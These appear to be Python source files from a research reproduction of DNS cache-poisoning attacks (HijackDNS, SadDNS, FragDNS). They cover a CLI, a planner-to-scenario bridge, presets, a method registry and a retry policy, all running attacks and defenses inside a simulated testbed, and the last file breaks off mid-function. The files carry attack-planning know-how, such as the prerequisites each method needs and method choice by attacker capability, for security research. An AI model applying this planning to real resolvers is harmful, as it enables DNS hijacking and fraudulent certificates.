  tables; optionally write a machine-readable JSON record.
* ``report`` — re-render the tables from a ``sweep --json`` record
  without re-running anything.
"""

from __future__ import annotations

import argparse
import json
import sys

from repro.apps.driver import AppSpec, available_apps, resolve_driver
from repro.defenses import DefenseStack
from repro.measurements.report import render_table
from repro.parallel.workers import parse_workers
from repro.scenario.campaign import Campaign, CampaignResult
from repro.scenario.presets import budget_capped_overrides, killchain_scenarios
from repro.scenario.registry import available_methods, resolve_method
from repro.scenario.spec import AttackScenario, TriggerSpec


def parse_seed(value: str) -> int | str:
    """Numeric seeds become ints, mirroring the atlas CLI."""
    try:
        return int(value)
    except ValueError:
        return value


def _split_csv(values: list[str] | None) -> list[str] | None:
    if not values:
        return None
    out: list[str] = []
    for value in values:
        out.extend(part for part in value.split(",") if part)
    return out


def _cmd_run(args: argparse.Namespace) -> int:
    method = resolve_method(args.method).name
    app_spec = None
    trigger = TriggerSpec()
    if args.app:
        driver = resolve_driver(args.app)
        if method not in driver.methods:
            print(f"app {args.app!r} cannot run under {method}; "
                  f"supported: {', '.join(driver.methods)}",
                  file=sys.stderr)
            return 2
        app_spec = AppSpec(app=args.app)
        trigger = TriggerSpec(kind="app")
    defenses = DefenseStack.parse(args.defend) if args.defend else None
    overrides = {} if args.full_budget else budget_capped_overrides(method)
    scenario = AttackScenario(method=method, app_spec=app_spec,
                              trigger=trigger, defenses=defenses,
                              **overrides)
    if defenses:
        print(defenses.describe())
    chain = scenario.run(seed=args.seed)
    print(chain.describe())
    if chain.app_result is not None:
        for outcome in chain.app_result.outcomes:
            print(f"    {outcome.describe()}")
    return 0


def _sweep_payload(result: CampaignResult, seeds: int) -> dict:
    return {
        "schema": "killchain-sweep/1",
        "seeds": seeds,
        "executor": result.executor,
        "workers": result.workers,
        "wall_clock_seconds": round(result.wall_clock, 3),
        "notes": list(result.notes),
        "runs": [
            {
                "label": run.label,
                "method": run.method,
                "seed": run.seed,
                "defense": run.defense,
                "success": run.success,
                "packets_sent": run.packets_sent,
                "queries_triggered": run.queries_triggered,
                "duration": run.duration,
                "app": run.app_result.app if run.app_result else None,
                "impact": run.app_result.impact if run.app_result else None,
                "impact_class": run.app_result.impact_class
                if run.app_result else None,
                "realized": run.impact_realized,
            }
            for run in result.runs
        ],
    }


def _render_payload(payload: dict) -> str:
    """The sweep/impact tables, rebuilt from a JSON record."""
    runs = payload["runs"]
    by_label: dict[str, list[dict]] = {}
    for run in runs:
        by_label.setdefault(run["label"], []).append(run)
    rows = []
    for label in sorted(by_label):
        group = by_label[label]
        successes = sum(1 for r in group if r["success"])
        rows.append([
            label, len(group), f"{100 * successes / len(group):.0f}%",
            f"{sum(r['packets_sent'] for r in group) / len(group):,.0f}",
            f"{sum(r['duration'] for r in group) / len(group):.1f}",
        ])
    sections = [render_table(
        ["Scenario", "Runs", "Success", "Mean packets", "Mean duration (s)"],
        rows, title="Campaign summary (from record)")]
    app_runs = [r for r in runs if r["app"]]
    if app_runs:
        by_app: dict[str, list[dict]] = {}
        for run in app_runs:
            by_app.setdefault(run["app"], []).append(run)
        impact_rows = []
        for app in sorted(by_app):
            group = by_app[app]
            realized = sum(1 for r in group if r["realized"])
            impact_rows.append([
                app, group[0]["impact"], len(group),
                f"{100 * realized / len(group):.0f}%",
            ])
        sections.append(render_table(
            ["Application", "Impact", "Stages", "Realized"],
            impact_rows, title="Application impact (from record)"))
    footer = (f"{len(runs)} runs recorded "
              f"({payload.get('executor')}, "
              f"workers={payload.get('workers')}, "
              f"{payload.get('wall_clock_seconds')}s wall)")
    sections.append(footer)
    return "\n".join(sections)


def _cmd_sweep(args: argparse.Namespace) -> int:
    apps = _split_csv(args.apps)
    if apps == ["all"]:
        apps = None
    methods = _split_csv(args.methods) or ["hijack"]
    if methods == ["all"]:
        methods = available_methods()
    scenarios = killchain_scenarios(apps=apps, methods=methods)
    campaign = Campaign(workers=args.workers, executor=args.executor)
    if args.defend:
        stacks = [DefenseStack.parse(text) for text in args.defend]
        result = campaign.run_defended(scenarios, stacks=stacks,
                                       seeds=range(args.seeds),
                                       store=args.store)
    else:
        result = campaign.run(scenarios, seeds=range(args.seeds),
                              store=args.store)
    print(result.describe())
    if args.json:
        with open(args.json, "w", encoding="utf-8") as handle:
            json.dump(_sweep_payload(result, args.seeds), handle,
                      indent=2, sort_keys=True)
        print(f"wrote {args.json}")
    return 0


def _cmd_report(args: argparse.Namespace) -> int:
    try:
        with open(args.json, encoding="utf-8") as handle:
            payload = json.load(handle)
    except (OSError, ValueError) as exc:
        print(f"cannot read {args.json}: {exc}", file=sys.stderr)
        return 1
    if payload.get("schema") != "killchain-sweep/1":
        print(f"{args.json} is not a killchain-sweep record",
              file=sys.stderr)
        return 1
    print(_render_payload(payload))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="python -m repro.scenario",
        description=__doc__.split("\n\n")[0],
    )
    sub = parser.add_subparsers(dest="command", required=True)

    run = sub.add_parser("run", help="one scenario, one seed, narrated")
    run.add_argument("--method", default="hijack",
                     help="methodology name or alias (default: hijack)")
    run.add_argument("--app", default=None,
                     help="application stage to attach "
                          f"(one of: {', '.join(available_apps())})")
    run.add_argument("--seed", type=parse_seed, default=0)
    run.add_argument("--full-budget", action="store_true",
                     help="full attack budgets for probabilistic methods "
                          "(default: sweep-style caps)")
    run.add_argument("--defend", default=None, metavar="STACK",
                     help="deploy a defense stack, e.g. 'dnssec' or "
                          "'0x20-encoding+rpki-rov'")
    run.set_defaults(fn=_cmd_run)

    sweep = sub.add_parser(
        "sweep", help="kill-chain campaign over apps x methods x seeds")
    sweep.add_argument("--apps", action="append", default=None,
                       help="comma-separated app names, or 'all' "
                            "(default: all)")
    sweep.add_argument("--methods", action="append", default=None,
                       help="comma-separated methodology names, or 'all' "
                            "(default: hijack)")
    sweep.add_argument("--seeds", type=int, default=8)
    sweep.add_argument("--workers", type=parse_workers, default=None,
                       help="worker count or 'auto' (all schedulable "
                            "CPUs; REPRO_WORKERS overrides defaults)")
    sweep.add_argument("--executor", default="process",
                       choices=("process", "thread", "serial"))
    sweep.add_argument("--defend", action="append", default=None,
                       metavar="STACK",
                       help="defense stack to add to the grid (repeatable;"
                            " the undefended baseline is always included)")
    sweep.add_argument("--json", default=None,
                       help="write the machine-readable sweep record here")
    sweep.add_argument("--store", default=None, metavar="DB",
                       help="SQLite run store: record every cell and skip "
                            "cells already stored (killed sweeps resume)")
    sweep.set_defaults(fn=_cmd_sweep)

    report = sub.add_parser(
        "report", help="re-render tables from a sweep --json record")
    report.add_argument("--json", required=True)
    report.set_defaults(fn=_cmd_report)
    return parser


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    return args.fn(args)
