"""Planner bridge: ``TargetProfile`` -> executable ``AttackScenario``.

The :class:`repro.attacks.planner.AttackPlanner` reproduces the paper's
Table 1 reasoning but used to stop at a verdict it could not execute.
This module closes the loop: :func:`scenario_from_profile` converts the
planner-preferred (or caller-chosen) applicable methodology into a
scenario whose testbed mirrors the profile's infrastructure facts, and
:func:`plan_and_run` executes it — so "the planner says FragDNS applies
to NTP" becomes a simulated poisoning, and "SadDNS is blocked for DV"
becomes a raised :class:`repro.core.errors.NotApplicableError`.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any, Iterable

from repro.attacks.planner import (
    METHOD_PREFERENCE,
    ApplicabilityVerdict,
    AttackPlanner,
    MethodChoice,
    TargetProfile,
)
from repro.core.errors import NotApplicableError, ScenarioError
from repro.dns.nameserver import NameserverConfig
from repro.dns.resolver import ResolverConfig
from repro.netsim.host import HostConfig
from repro.scenario.spec import AttackScenario, ScenarioRun
from repro.testbed import FRAG_TARGET_NAME, VICTIM_PREFIX


def profile_world_kwargs(profile: TargetProfile) -> dict[str, Any]:
    """Scenario overrides that make the testbed *mirror* the profile.

    Each planner-relevant infrastructure fact maps onto the simulation
    knob that implements it, so an applicable verdict executes against a
    world where the prerequisite genuinely holds — and an inapplicable
    one would genuinely fail there.
    """
    return {
        "resolver_config": ResolverConfig(
            allowed_clients=[VICTIM_PREFIX],
            validates_dnssec=profile.dnssec_validated,
            edns_udp_size=(4096 if profile.resolver_edns_at_least_response
                           else 512),
        ),
        "ns_config": NameserverConfig(rrl_enabled=profile.ns_rate_limited),
        "ns_host_config": HostConfig(
            ipid_policy="global",
            accepts_ptb=profile.ns_honours_ptb,
            min_accepted_mtu=68,
        ),
        "resolver_host_config": HostConfig(
            icmp_rate_limited=True,
            icmp_limit_randomized=not profile.resolver_global_icmp_limit,
            accept_fragments=profile.resolver_accepts_fragments,
        ),
        "signed_target": profile.dnssec_validated,
    }


def choose_method(verdict: ApplicabilityVerdict,
                  candidates: Iterable[str] | None = None
                  ) -> MethodChoice | None:
    """The preferred applicable methodology, optionally restricted.

    ``candidates`` models attacker capability: an adversary without BGP
    access passes ``("SadDNS", "FragDNS")`` and the bridge picks among
    what remains, in the paper's effectiveness order.
    """
    if candidates is None:
        return verdict.best()
    from repro.scenario.registry import resolve_method

    # Resolve through the registry so aliases ("hijack", "frag") select
    # the same methods they do everywhere else — and typos fail loudly
    # instead of silently excluding a methodology.
    allowed = {resolve_method(name).name for name in candidates}
    for method in METHOD_PREFERENCE:
        if method not in allowed:
            continue
        choice = verdict.choices.get(method)
        if choice is not None and choice.applicable:
            return choice
    return None


def scenario_from_profile(profile: TargetProfile,
                          method: str | None = None,
                          planner: AttackPlanner | None = None,
                          candidates: Iterable[str] | None = None,
                          defenses=None,
                          **overrides: Any) -> AttackScenario:
    """Bridge one Table 1 profile to an executable scenario.

    Picks ``method`` if given (raising when the planner marks it
    inapplicable), otherwise the best applicable methodology among
    ``candidates`` (default: all three).  ``defenses`` — a
    :class:`repro.defenses.DefenseStack` — makes the verdict
    defense-aware *and* deploys the stack on the scenario's world, so a
    methodology the stack kills raises
    :class:`~repro.core.errors.NotApplicableError` instead of silently
    running doomed.  Extra keyword arguments override scenario fields —
    e.g. a narrowed ``resolver_host_config`` so probabilistic attacks
    converge inside a test budget.
    """
    planner = planner if planner is not None else AttackPlanner()
    verdict = planner.plan(profile, defenses=defenses)
    if method is not None:
        from repro.scenario.registry import resolve_method

        canonical = resolve_method(method).name
        choice = verdict.choices.get(canonical)
        if choice is None:
            raise ScenarioError(f"planner has no verdict for {canonical!r}")
        if not choice.applicable:
            raise NotApplicableError(
                f"{canonical} is not applicable to {profile.app_name}: "
                + "; ".join(choice.reasons), verdict=verdict)
    else:
        choice = choose_method(verdict, candidates=candidates)
        if choice is None:
            rejected = "; ".join(
                f"{name}: {', '.join(c.reasons) or 'inapplicable'}"
                for name, c in verdict.choices.items() if not c.applicable
            )
            raise NotApplicableError(
                f"no methodology applies to {profile.app_name}"
                f" ({rejected})", verdict=verdict)
    kwargs = profile_world_kwargs(profile)
    # A FragDNS choice implies the planner accepted that responses can
    # exceed the fragment floor, so race the name whose answer spills
    # into the second fragment.
    qname = FRAG_TARGET_NAME if choice.method == "FragDNS" else None
    scenario = AttackScenario(
        method=choice.method,
        qname=qname,
        app=profile.app_name,
        label=f"{profile.app_name}/{choice.method}",
        planner_notes=tuple(choice.reasons),
        defenses=defenses if defenses else None,
        **kwargs,
    )
    if overrides:
        scenario = replace(scenario, **overrides)
    return scenario


def plan_and_run(profile: TargetProfile, seed: Any = 0,
                 method: str | None = None,
                 planner: AttackPlanner | None = None,
                 candidates: Iterable[str] | None = None,
                 defenses=None,
                 **overrides: Any) -> ScenarioRun:
    """Assess, bridge and execute in one call (planner -> simulation)."""
    scenario = scenario_from_profile(profile, method=method, planner=planner,
                                     candidates=candidates,
                                     defenses=defenses, **overrides)
    return scenario.run(seed=seed)
