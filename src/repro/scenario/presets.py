"""Canonical scenario presets for the paper's comparisons.

Two families:

* :func:`table6_scenarios` — the exact configurations the Table 6
  trials use (full attack budgets; minutes of virtual time for the
  probabilistic methods).
* :func:`sweep_scenarios` — budget-capped variants for multi-seed
  campaigns: each run finishes in well under a second of wall time, and
  the per-seed *success rates* across a sweep reproduce the paper's
  effectiveness ordering (HijackDNS > FragDNS > SadDNS), mirroring the
  Table 6 per-query hitrates (100% / ~20% per attempt / ~ a few percent
  per iteration).
"""

from __future__ import annotations

from typing import Iterable

from repro.apps.driver import AppSpec, resolve_driver
from repro.attacks.fragdns import FragDnsConfig
from repro.attacks.saddns import SadDnsConfig
from repro.core.errors import ScenarioError
from repro.netsim.host import HostConfig
from repro.scenario.spec import AttackScenario, TriggerSpec

#: Ephemeral-port window used by the fast SadDNS variants: 1,000
#: candidate ports keep the side-channel scan inside a test budget
#: without changing the mechanics (same batches, same ICMP bucket).
FAST_SADDNS_PORTS = (30000, 30999)


def table6_scenarios(saddns_max_iterations: int = 3000,
                     frag_max_attempts: int = 4000,
                     frag_ipid_policy: str = "global"
                     ) -> dict[str, AttackScenario]:
    """The Table 6 trial configurations, one scenario per column."""
    return {
        "hijack": AttackScenario(method="HijackDNS", label="HijackDNS"),
        "saddns": AttackScenario(
            method="SadDNS", label="SadDNS",
            attack_config=SadDnsConfig(
                max_iterations=saddns_max_iterations),
        ),
        "frag": AttackScenario(
            method="FragDNS", label=f"FragDNS ({frag_ipid_policy} IPID)",
            ns_host_config=HostConfig(ipid_policy=frag_ipid_policy,
                                      min_accepted_mtu=68),
            attack_config=FragDnsConfig(max_attempts=frag_max_attempts,
                                        attempt_spacing=0.2),
        ),
    }


def sweep_scenarios() -> list[AttackScenario]:
    """Budget-capped scenarios for fast multi-seed campaigns.

    HijackDNS keeps its deterministic two-packet success.  FragDNS gets
    three attempts at ~20% each (global IP-ID), SadDNS one iteration of
    two scan batches over the narrowed port window (~10% to even find
    the port) — so a sweep's success rates land in the strict order
    hijack > frag > saddns with comfortable margins.
    """
    return [
        AttackScenario(method="HijackDNS", label="HijackDNS"),
        AttackScenario(
            method="FragDNS", label="FragDNS",
            attack_config=FragDnsConfig(max_attempts=3,
                                        attempt_spacing=0.2),
        ),
        AttackScenario(
            method="SadDNS", label="SadDNS",
            resolver_host_config=HostConfig(
                ephemeral_low=FAST_SADDNS_PORTS[0],
                ephemeral_high=FAST_SADDNS_PORTS[1],
            ),
            attack_config=SadDnsConfig(max_iterations=1,
                                       scan_batches_per_iteration=2),
        ),
    ]


def budget_capped_overrides(method: str) -> dict:
    """The sweep-style budget caps for one methodology (see above)."""
    if method == "FragDNS":
        return {"attack_config": FragDnsConfig(max_attempts=3,
                                               attempt_spacing=0.2)}
    if method == "SadDNS":
        return {
            "resolver_host_config": HostConfig(
                ephemeral_low=FAST_SADDNS_PORTS[0],
                ephemeral_high=FAST_SADDNS_PORTS[1],
            ),
            "attack_config": SadDnsConfig(max_iterations=1,
                                          scan_batches_per_iteration=2),
        }
    return {}


def killchain_scenarios(apps: Iterable[str] | None = None,
                        methods: Iterable[str] = ("hijack",),
                        ) -> list[AttackScenario]:
    """Budget-capped end-to-end kill chains: attack + application stage.

    One scenario per (application, methodology) cell the driver can
    execute — the query is triggered by the application itself
    (``TriggerSpec(kind="app")``), the attack plants whatever records
    the app's workload consumes, and the run reports the Table 1 impact
    alongside the attack statistics.  Probabilistic methods get the
    same budget caps as :func:`sweep_scenarios`.
    """
    from repro.apps.driver import available_apps
    from repro.scenario.registry import resolve_method

    names = list(apps) if apps is not None else available_apps()
    canonical = [resolve_method(m).name for m in methods]
    scenarios = []
    for name in names:
        driver = resolve_driver(name)
        for method in canonical:
            if method not in driver.methods:
                continue
            scenarios.append(AttackScenario(
                method=method,
                app_spec=AppSpec(app=name),
                trigger=TriggerSpec(kind="app"),
                label=f"killchain/{name}/{method}",
                **budget_capped_overrides(method),
            ))
    if not scenarios:
        raise ScenarioError(
            f"no (app, method) cell is executable for apps={names} "
            f"methods={canonical}")
    return scenarios
