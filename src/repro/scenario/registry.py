"""Method registry: methodology names -> attack factories + defaults.

The three attack classes grew three divergent constructors; the registry
collapses them behind one factory so a scenario can name its methodology
as a string (``"HijackDNS"``, ``"saddns"``, ``"frag"`` ...) and
``scenario.build(world)`` instantiates the right class with the right
wiring.  Each entry also carries the *world defaults* the methodology
needs to be demonstrable on the standard testbed — a rate-limited
nameserver for SadDNS, a global-IP-ID nameserver and the long qname for
FragDNS — applied only where the scenario left the knob unset.

New methodologies (the roadmap's "as many scenarios as you can
imagine") plug in via :func:`register_method` and become available to
``AttackScenario`` and ``Campaign`` immediately; only the planner
bridge's preference ranking
(:data:`repro.attacks.planner.METHOD_PREFERENCE`) needs a separate
entry for ``plan_and_run`` to ever *prefer* the newcomer.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING, Any, Callable

from repro.attacks.base import OffPathAttacker
from repro.attacks.fragdns import FragDnsAttack, FragDnsConfig
from repro.attacks.hijackdns import HijackDnsAttack, HijackDnsConfig
from repro.attacks.saddns import SadDnsAttack, SadDnsConfig
from repro.core.errors import ScenarioError
from repro.dns.nameserver import NameserverConfig
from repro.dns.records import TYPE_A
from repro.netsim.host import HostConfig
from repro.testbed import FRAG_TARGET_NAME, TARGET_DOMAIN

if TYPE_CHECKING:  # pragma: no cover - typing only, avoids the cycle
    from repro.scenario.spec import AttackScenario


@dataclass(frozen=True)
class MethodSpec:
    """One registered poisoning methodology."""

    name: str
    aliases: tuple[str, ...]
    config_cls: type
    attack_factory: Callable[["AttackScenario", dict, OffPathAttacker], Any]
    world_defaults: Callable[["AttackScenario"], dict]
    default_qname: Callable[["AttackScenario"], str]


_REGISTRY: dict[str, MethodSpec] = {}


def register_method(spec: MethodSpec) -> MethodSpec:
    """Add a methodology; name and aliases become resolvable strings."""
    for key in (spec.name, *spec.aliases):
        folded = key.lower()
        existing = _REGISTRY.get(folded)
        if existing is not None and existing.name != spec.name:
            raise ScenarioError(
                f"method name {key!r} already registered for"
                f" {existing.name}")
        _REGISTRY[folded] = spec
    return spec


def resolve_method(name: str) -> MethodSpec:
    """Look up a methodology by canonical name or alias."""
    spec = _REGISTRY.get(name.lower())
    if spec is None:
        known = ", ".join(sorted(available_methods()))
        raise ScenarioError(
            f"unknown attack method {name!r}; registered: {known}")
    return spec


def available_methods() -> list[str]:
    """Canonical names of all registered methodologies."""
    return sorted({spec.name for spec in _REGISTRY.values()})


# -- the paper's three methodologies -------------------------------------------


def _default_qname(scenario: "AttackScenario") -> str:
    return scenario.target_domain


def _frag_qname(scenario: "AttackScenario") -> str:
    # The standard testbed publishes one name long enough that its
    # answer rdata lands in the second fragment at MTU 68; custom
    # domains must bring their own qname.
    if scenario.target_domain == TARGET_DOMAIN:
        return FRAG_TARGET_NAME
    return scenario.target_domain


def _no_world_defaults(scenario: "AttackScenario") -> dict:
    return {}


def _saddns_world_defaults(scenario: "AttackScenario") -> dict:
    # The side channel needs a nameserver whose RRL the attacker can
    # exhaust (paper §3.2: the muting step).
    return {"ns_config": NameserverConfig(rrl_enabled=True)}


def _fragdns_world_defaults(scenario: "AttackScenario") -> dict:
    # Predictable IP-IDs and a PTB-honouring stack (paper §3.3).
    return {"ns_host_config": HostConfig(ipid_policy="global",
                                         min_accepted_mtu=68)}


def _build_hijackdns(scenario: "AttackScenario", world: dict,
                     attacker: OffPathAttacker) -> HijackDnsAttack:
    return HijackDnsAttack(
        attacker, world["testbed"].network, world["resolver"],
        scenario.target_domain, world["target"].ns_ip,
        malicious_records=list(scenario.malicious_records),
        config=scenario.attack_config,
        capture_possible=scenario.capture_possible,
        # Deployed by a BGP-layer defense (AttackScenario.make_world):
        # the announcement must pass real origin validation to divert.
        rov_filter=world.get("rov"),
    )


def _build_saddns(scenario: "AttackScenario", world: dict,
                  attacker: OffPathAttacker) -> SadDnsAttack:
    return SadDnsAttack(
        attacker, world["testbed"].network, world["resolver"],
        world["target"].server, scenario.target_domain,
        malicious_records=list(scenario.malicious_records) or None,
        config=scenario.attack_config,
    )


def _build_fragdns(scenario: "AttackScenario", world: dict,
                   attacker: OffPathAttacker) -> FragDnsAttack:
    # FragDNS rewrites rdata in place rather than forging whole
    # responses; a malicious A record, if given, names the address to
    # plant.
    malicious_ip = None
    for record in scenario.malicious_records:
        if record.rtype == TYPE_A:
            malicious_ip = record.data
            break
    return FragDnsAttack(
        attacker, world["testbed"].network, world["resolver"],
        world["target"].server, scenario.target_domain,
        malicious_ip=malicious_ip,
        config=scenario.attack_config,
        # Cross-traffic noise ("the rest of the Internet" advancing the
        # nameserver's IP-ID counter) must vary per world, or every seed
        # of a campaign would replay one fixed advance sequence.
        world_rng=world["testbed"].rng.derive("fragdns-world"),
    )


HIJACKDNS = register_method(MethodSpec(
    name="HijackDNS",
    aliases=("hijack", "hijackdns", "bgp-hijack"),
    config_cls=HijackDnsConfig,
    attack_factory=_build_hijackdns,
    world_defaults=_no_world_defaults,
    default_qname=_default_qname,
))

SADDNS = register_method(MethodSpec(
    name="SadDNS",
    aliases=("saddns", "sad-dns", "side-channel"),
    config_cls=SadDnsConfig,
    attack_factory=_build_saddns,
    world_defaults=_saddns_world_defaults,
    default_qname=_default_qname,
))

FRAGDNS = register_method(MethodSpec(
    name="FragDNS",
    aliases=("frag", "fragdns", "fragmentation"),
    config_cls=FragDnsConfig,
    attack_factory=_build_fragdns,
    world_defaults=_fragdns_world_defaults,
    default_qname=_frag_qname,
))
