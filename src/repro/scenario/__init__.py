"""Unified scenario/campaign API: the single entry point for attacks.

Three layers, one surface:

* **Declare** — :class:`AttackScenario` and :class:`TriggerSpec` turn an
  attack into plain data; the method registry
  (:func:`register_method` / :func:`available_methods`) maps methodology
  names to the attack classes behind one factory.
* **Plan** — :func:`scenario_from_profile` and :func:`plan_and_run`
  bridge the Table 1 planner's verdicts to executable scenarios.
* **Sweep** — :class:`Campaign` runs scenarios across seeds and config
  grids on worker processes and aggregates a :class:`CampaignResult`.
* **Impact** — an :class:`AppSpec` stage turns any scenario into a full
  kill chain: after the attack, the named Table 1 application runs its
  workload against the poisoned world and the run reports whether the
  paper's impact (fraudulent certificate, downgrade, takeover, ...)
  was actually realized.

Quickstart::

    from repro.scenario import AppSpec, AttackScenario, Campaign, TriggerSpec

    result = AttackScenario(method="hijack").run(seed=1)
    chain = AttackScenario(method="hijack", app_spec=AppSpec(app="dv"),
                           trigger=TriggerSpec(kind="app")).run(seed=1)
    print(chain.app_result.describe())   # fraud. certificate issued?
    sweep = Campaign().run(AttackScenario(method="frag"),
                           seeds=range(32), workers=8)
    print(sweep.describe())

There is also a command line: ``python -m repro.scenario run|sweep|report``.
"""

from repro.scenario.bridge import (
    METHOD_PREFERENCE,
    choose_method,
    plan_and_run,
    profile_world_kwargs,
    scenario_from_profile,
)
from repro.scenario.campaign import (
    Campaign,
    CampaignResult,
    MethodSummary,
    percentile,
)
from repro.apps.driver import AppSpec, AppStageResult
from repro.scenario.presets import (
    killchain_scenarios,
    sweep_scenarios,
    table6_scenarios,
)
from repro.scenario.registry import (
    MethodSpec,
    available_methods,
    register_method,
    resolve_method,
)
from repro.scenario.spec import (
    AttackScenario,
    BuiltScenario,
    ScenarioRun,
    TriggerSpec,
)

__all__ = [
    "AppSpec",
    "AppStageResult",
    "AttackScenario",
    "BuiltScenario",
    "Campaign",
    "CampaignResult",
    "METHOD_PREFERENCE",
    "MethodSpec",
    "MethodSummary",
    "ScenarioRun",
    "TriggerSpec",
    "available_methods",
    "choose_method",
    "killchain_scenarios",
    "percentile",
    "plan_and_run",
    "profile_world_kwargs",
    "register_method",
    "resolve_method",
    "scenario_from_profile",
    "sweep_scenarios",
    "table6_scenarios",
]
