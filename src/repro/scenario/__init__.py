"""Unified scenario/campaign API: the single entry point for attacks.

Three layers, one surface:

* **Declare** — :class:`AttackScenario` and :class:`TriggerSpec` turn an
  attack into plain data; the method registry
  (:func:`register_method` / :func:`available_methods`) maps methodology
  names to the attack classes behind one factory.
* **Plan** — :func:`scenario_from_profile` and :func:`plan_and_run`
  bridge the Table 1 planner's verdicts to executable scenarios.
* **Sweep** — :class:`Campaign` runs scenarios across seeds and config
  grids on worker processes and aggregates a :class:`CampaignResult`.

Quickstart::

    from repro.scenario import AttackScenario, Campaign

    result = AttackScenario(method="hijack").run(seed=1)
    sweep = Campaign().run(AttackScenario(method="frag"),
                           seeds=range(32), workers=8)
    print(sweep.describe())
"""

from repro.scenario.bridge import (
    METHOD_PREFERENCE,
    choose_method,
    plan_and_run,
    profile_world_kwargs,
    scenario_from_profile,
)
from repro.scenario.campaign import (
    Campaign,
    CampaignResult,
    MethodSummary,
    percentile,
)
from repro.scenario.presets import sweep_scenarios, table6_scenarios
from repro.scenario.registry import (
    MethodSpec,
    available_methods,
    register_method,
    resolve_method,
)
from repro.scenario.spec import (
    AttackScenario,
    BuiltScenario,
    ScenarioRun,
    TriggerSpec,
)

__all__ = [
    "AttackScenario",
    "BuiltScenario",
    "Campaign",
    "CampaignResult",
    "METHOD_PREFERENCE",
    "MethodSpec",
    "MethodSummary",
    "ScenarioRun",
    "TriggerSpec",
    "available_methods",
    "choose_method",
    "percentile",
    "plan_and_run",
    "profile_world_kwargs",
    "register_method",
    "resolve_method",
    "scenario_from_profile",
    "sweep_scenarios",
    "table6_scenarios",
]
