"""Graceful degradation for campaign cells: watchdog, retry, record.

A :class:`RunPolicy` is the execution plane's answer to a misbehaving
cell.  Without one, a raising scenario kills the whole grid; with one,
the cell gets a scheduler watchdog (event / wall budgets), transient
failures retry with bounded backoff, and anything terminal becomes a
*recorded failed run* — a :class:`~repro.scenario.spec.ScenarioRun`
with ``error`` set and all-zero attack statistics — so the sweep
finishes, the store keeps the failure, and a resumed run re-executes
only the failed/missing cells.
"""

from __future__ import annotations

import dataclasses
import time
import traceback
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from repro.attacks.base import AttackResult
from repro.core.errors import TransientError
from repro.obs import OBS

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.scenario.spec import AttackScenario, ScenarioRun


@dataclass(frozen=True, slots=True)
class RunPolicy:
    """How a campaign executes (and survives) one cell.

    * ``max_events`` / ``max_wall`` arm the scheduler watchdog per cell
      (see :meth:`repro.core.clock.Scheduler.arm_budget`); a cell that
      blows either budget raises
      :class:`~repro.core.errors.BudgetExceededError`.
    * ``retries`` / ``backoff`` bound the retry loop for
      :class:`~repro.core.errors.TransientError` failures — attempt *n*
      sleeps ``backoff * n`` seconds first.
    * ``record_failures`` turns any terminal exception into a failed
      :class:`~repro.scenario.spec.ScenarioRun` instead of propagating;
      set it False to get the old fail-fast behaviour back.
    """

    max_events: int | None = None
    max_wall: float | None = None
    retries: int = 0
    backoff: float = 0.05
    record_failures: bool = True

    def __post_init__(self) -> None:
        if self.retries < 0:
            raise ValueError(f"retries must be >= 0, got {self.retries}")
        if self.backoff < 0:
            raise ValueError(f"backoff must be >= 0, got {self.backoff}")

    # Frozen+slots dataclasses only pickle out of the box from Python
    # 3.11; policies ship to process-pool workers on 3.10 too.
    def __getstate__(self):
        return tuple(getattr(self, f.name)
                     for f in dataclasses.fields(self))

    def __setstate__(self, state):
        for f, value in zip(dataclasses.fields(self), state):
            object.__setattr__(self, f.name, value)


#: The guardrail long sweeps (and every serve job) run under: generous
#: budgets that no legitimate cell approaches (the heaviest bench cell
#: stays well under ten million events), two retries for transient
#: failures, and failures recorded rather than fatal.  Campaigns built
#: without a policy keep the old fail-fast behaviour.
DEFAULT_POLICY = RunPolicy(max_events=50_000_000, max_wall=600.0,
                           retries=2, backoff=0.05)


def error_summary(exc: BaseException, frames: int = 3) -> dict[str, str]:
    """A compact, storable description of an exception.

    ``error`` is the one-line ``Type: message`` form; ``traceback`` the
    innermost ``frames`` entries, enough to locate the failure without
    persisting a full stack dump per cell.
    """
    tb = traceback.extract_tb(exc.__traceback__)[-frames:]
    return {
        "error": f"{type(exc).__name__}: {exc}",
        "traceback": "".join(traceback.format_list(tb)).rstrip(),
    }


def failed_run(scenario: "AttackScenario", seed: Any,
               exc: BaseException) -> "ScenarioRun":
    """Synthesize the recorded form of a cell that could not run.

    All attack statistics are zero and ``error`` carries the one-line
    failure, so failed cells aggregate as non-successes and serialize
    through the run store like any other run — deterministically, since
    nothing here depends on executor or timing.
    """
    from repro.scenario.spec import ScenarioRun

    summary = error_summary(exc)
    result = AttackResult(
        method=scenario.canonical_method, success=False,
        detail=dict(summary))
    return ScenarioRun(
        label=scenario.display_label,
        method=scenario.canonical_method,
        seed=seed,
        result=result,
        defense=scenario.defense_key,
        error=summary["error"],
    )


def execute_cell(scenario: "AttackScenario", seed: Any,
                 policy: RunPolicy | None) -> "ScenarioRun":
    """Run one (scenario, seed) cell under ``policy``.

    ``policy=None`` is the bare ``scenario.run(seed)`` — exceptions
    propagate and kill the caller, exactly the pre-policy behaviour.

    Every executor path (serial loop, thread batch, process batch)
    funnels through here, so this is also the one place the obs plane
    counts cells and opens per-cell spans — gated on ``OBS.enabled``
    so the disabled path is exactly the un-instrumented call.
    """
    if not OBS.enabled:
        return _run_cell(scenario, seed, policy)
    method = scenario.canonical_method
    with OBS.span("campaign.cell", method=method, seed=str(seed),
                  defense=scenario.defense_key or ""):
        run = _run_cell(scenario, seed, policy)
    OBS.counter("campaign.cells_total", method=method).inc()
    if run.success:
        OBS.counter("campaign.successes_total", method=method).inc()
    if run.error:
        OBS.counter("campaign.failed_cells_total", method=method).inc()
    OBS.histogram("campaign.cell_wall_ms").observe(
        run.wall_time * 1000.0)
    return run


def _run_cell(scenario: "AttackScenario", seed: Any,
              policy: RunPolicy | None) -> "ScenarioRun":
    if policy is None:
        return scenario.run(seed=seed)
    attempt = 0
    while True:
        attempt += 1
        try:
            built = scenario.build(seed=seed)
            if policy.max_events is not None or policy.max_wall is not None:
                built.network.scheduler.arm_budget(
                    max_events=policy.max_events, max_wall=policy.max_wall)
            return built.execute()
        except TransientError as exc:
            if attempt <= policy.retries:
                if OBS.enabled:
